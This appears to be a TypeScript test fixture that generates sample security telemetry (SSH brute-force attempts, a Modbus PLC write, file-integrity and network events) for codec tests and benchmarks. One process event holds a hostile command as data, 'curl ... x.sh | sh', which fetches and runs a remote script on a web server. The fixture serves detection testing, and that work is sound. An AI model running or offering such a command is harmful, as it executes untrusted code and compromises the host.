// Realistic telemetry as agents produce it, for round-trip tests and the codec benchmark.
import {
  AuthEventAction,
  AuthEventKind,
  AuthEventOutcome,
  FileEventAction,
  MetricKind,
  NetworkEventDirection,
  NetworkEventKind,
  NetworkEventTransport,
  OtTransactionOperation,
  OtTransactionProtocol,
  OtTransactionResult,
  OtTransactionRole,
  ProcessEventAction,
  type IEvent,
  type IEventBatch,
  type IHost,
} from '../src/index.js';

export const AGENT_ID = 'agt_01J9Z3K8W4Q2V7M5X6N1P0R8T2';
/** 2027-01-15T08:00:00Z in microseconds: realistic, and past 2^50. */
export const BASE_TIME_US = 1_800_000_000_000_000;

export const webHost: IHost = {
  hostname: 'web-01',
  name: 'web-01.plant.example',
  id: '4c4c4544-0052-3510-8058-b4c04f4e4d32',
  ip: ['10.1.2.21', 'fe80::a00:27ff:fe4e:66a1'],
  mac: ['08-00-27-4E-66-A1'],
  os: {
    family: 'debian',
    name: 'Ubuntu',
    version: '22.04.4 LTS (Jammy Jellyfish)',
    kernel: '5.15.0-105-generic',
    platform: 'ubuntu',
    type: 'linux',
  },
  architecture: 'x86_64',
};

export const gatewayHost: IHost = {
  hostname: 'ot-gw-line3',
  ip: ['10.20.0.2'],
  mac: ['00-1B-1B-9A-22-10'],
  os: { family: 'debian', name: 'Debian GNU/Linux', version: '12 (bookworm)', type: 'linux' },
  architecture: 'aarch64',
};

function envelope(seq: number, offsetUs: number, host: IHost, sensor: string): IEvent {
  const time = BASE_TIME_US + offsetUs;
  return { agentId: AGENT_ID, seq, timeUnixUs: time, observedTimeUnixUs: time + 850, host, sensor };
}

/** One failed password attempt of an SSH brute force from 203.0.113.7 (attempt n tries a common name). */
export function sshBruteForceAttempt(seq: number, attempt: number): IEvent {
  const names = ['admin', 'root', 'ubuntu', 'oracle', 'test', 'pi', 'postgres', 'git'];
  const user = names[attempt % names.length] ?? 'admin';
  return {
    ...envelope(seq, attempt * 1_200_000, webHost, 'journald'),
    auth: {
      kind: AuthEventKind.KIND_SSH,
      action: AuthEventAction.ACTION_LOGON,
      outcome: AuthEventOutcome.OUTCOME_FAILURE,
      user: { name: user },
      source: { ip: '203.0.113.7', port: 40_000 + attempt },
      method: 'password',
      service: 'sshd',
      reason: user === 'root' ? 'authentication failure' : 'invalid user',
      process: { pid: 20_417 + attempt, name: 'sshd', executable: '/usr/sbin/sshd' },
      tty: 'ssh:notty',
    },
  };
}

/** An engineering workstation writes two holding registers of a PLC (Modbus function 16). */
export function modbusWrite(seq: number, offsetUs = 0): IEvent {
  return {
    ...envelope(seq, offsetUs, gatewayHost, 'ot-dpi'),
    ot: {
      protocol: OtTransactionProtocol.PROTOCOL_MODBUS,
      source: { ip: '10.20.0.15', port: 49_152, mac: '00-0C-29-3E-5B-71' },
      sourceRole: OtTransactionRole.ROLE_CLIENT,
      destination: { ip: '10.20.1.10', port: 502, mac: '00-80-F4-12-34-56', domain: 'plc-line3' },
      destinationRole: OtTransactionRole.ROLE_SERVER,
      functionCode: 16,
      functionName: 'write_multiple_registers',
      operation: OtTransactionOperation.OPERATION_WRITE,
      unitId: 1,
      transactionId: String(4711 + seq),
      points: [
        { address: '40101', objectType: 'holding_register', quantity: 1, numberValue: 1200 },
        { address: '40102', objectType: 'holding_register', quantity: 1, numberValue: 1350 },
      ],
      result: OtTransactionResult.RESULT_OK,
      durationUs: 3_800,
    },
  };
}

/** A web server's shell starts curl piping a script from the internet: a process start with its lineage. */
export function processStartWithLineage(seq: number, offsetUs = 0): IEvent {
  const start = BASE_TIME_US + offsetUs;
  return {
    ...envelope(seq, offsetUs, webHost, 'ebpf'),
    process: {
      action: ProcessEventAction.ACTION_START,
      process: {
        pid: 31_337,
        ppid: 2_201,
        entityId: 'p:agt_01J9:b7e1:31337:1800000000000000',
        executable: '/usr/bin/curl',
        name: 'curl',
        commandLine: 'curl -fsSL http://198.51.100.23/x.sh',
        args: ['curl', '-fsSL', 'http://198.51.100.23/x.sh'],
        workingDirectory: '/tmp',
        user: { id: '33', name: 'www-data' },
        group: { id: '33', name: 'www-data' },
        hash: { sha256: '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea' },
        startTimeUnixUs: start,
        sessionId: 2_150,
      },
      parent: {
        pid: 2_201,
        ppid: 2_150,
        entityId: 'p:agt_01J9:b7e1:2201:1799999990000000',
        executable: '/usr/bin/dash',
        name: 'sh',
        commandLine: 'sh -c curl -fsSL http://198.51.100.23/x.sh | sh',
        args: ['sh', '-c', 'curl -fsSL http://198.51.100.23/x.sh | sh'],
        workingDirectory: '/var/www/html',
        user: { id: '33', name: 'www-data' },
        startTimeUnixUs: start - 10_000_000,
        sessionId: 2_150,
      },
      ancestorEntityIds: ['p:agt_01J9:b7e1:2150:1799999000000000', 'p:agt_01J9:b7e1:1:1790000000000000'],
    },
  };
}

function networkFlow(seq: number, offsetUs: number): IEvent {
  return {
    ...envelope(seq, offsetUs, webHost, 'conntrack'),
    network: {
      kind: NetworkEventKind.KIND_FLOW,
      transport: NetworkEventTransport.TRANSPORT_TCP,
      ianaNumber: 6,
      source: { ip: '10.1.2.21', port: 51_000 + (seq % 10_000) },
      destination: { ip: '198.51.100.23', port: 443 },
      direction: NetworkEventDirection.DIRECTION_OUTBOUND,
      bytesOut: 1_843 + seq,
      bytesIn: 48_211,
      packetsOut: 14,
      packetsIn: 38,
      process: { pid: 1_022, name: 'nginx', executable: '/usr/sbin/nginx' },
      communityId: '1:LQU9qZlK+B5F3KDmev6m5PMibrg=',
      applicationProtocol: 'tls',
      durationUs: 2_400_000,
    },
  };
}

function fileModified(seq: number, offsetUs: number): IEvent {
  return {
    ...envelope(seq, offsetUs, webHost, 'fim'),
    file: {
      action: FileEventAction.ACTION_MODIFIED,
      path: '/etc/ssh/sshd_config',
      type: 'file',
      hash: { sha256: 'b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c' },
      previousHash: { sha256: '7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730' },
      owner: { id: '0', name: 'root' },
      group: { id: '0', name: 'root' },
      mode: '0644',
      size: 3_289,
      mtimeUnixUs: BASE_TIME_US + offsetUs - 5_000,
      inode: '1835119',
      changedAttributes: ['size', 'mtime', 'hash'],
      process: { pid: 4_410, name: 'vim', executable: '/usr/bin/vim.basic' },
      user: { id: '1000', name: 'alice' },
    },
  };
}

function syslogLine(seq: number, offsetUs: number): IEvent {
  return {
    ...envelope(seq, offsetUs, webHost, 'journald'),
    log: {
      original:
        'Jan 15 08:00:01 web-01 sudo[5612]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx',
      message: 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx',
      source: 'journald',
      program: 'sudo',
      pid: 5_612,
      facility: 10,
      severity: 5,
      level: 'notice',
      parser: 'sudo',
      fields: {
        'user.name': 'alice',
        'user.target.name': 'root',
        'process.command_line': 'systemctl restart nginx',
      },
    },
  };
}

function cpuMetric(seq: number, offsetUs: number): IEvent {
  return {
    ...envelope(seq, offsetUs, webHost, 'metrics'),
    metric: {
      name: 'system.cpu.utilization',
      value: 0.1875 + (seq % 7) / 100,
      unit: '1',
      kind: MetricKind.KIND_GAUGE,
      attributes: { cpu: String(seq % 4), state: 'user' },
    },
  };
}

const MIX = [
  (seq: number, offset: number) => processStartWithLineage(seq, offset),
  networkFlow,
  (seq: number) => sshBruteForceAttempt(seq, seq % 50),
  fileModified,
  syslogLine,
  cpuMetric,
  (seq: number, offset: number) => modbusWrite(seq, offset),
  networkFlow,
  syslogLine,
  cpuMetric,
];

/** A batch of `count` contiguous events cycling through realistic payloads of every common kind. */
export function mixedEventBatch(count: number, firstSeq = 1): IEventBatch {
  const events: IEvent[] = [];
  for (let i = 0; i < count; i++) {
    const make = MIX[i % MIX.length];
    if (!make) throw new Error('unreachable');
    events.push(make(firstSeq + i, i * 1_000));
  }
  return {
    agentId: AGENT_ID,
    batchId: `${AGENT_ID}:${firstSeq}`,
    firstSeq,
    sentTimeUnixUs: BASE_TIME_US + count * 1_000,
    events,
  };
}

/**
 * The same batch as an agent sends it by default: its host once in EventBatch.host, and events that
 * happened on that host without their own copy (events from another host keep theirs).
 */
export function withSharedHost(batch: IEventBatch, host: IHost = webHost): IEventBatch {
  const events = (batch.events ?? []).map((event) =>
    event.host === host ? { ...event, host: null } : event,
  );
  return { ...batch, host, events };
}
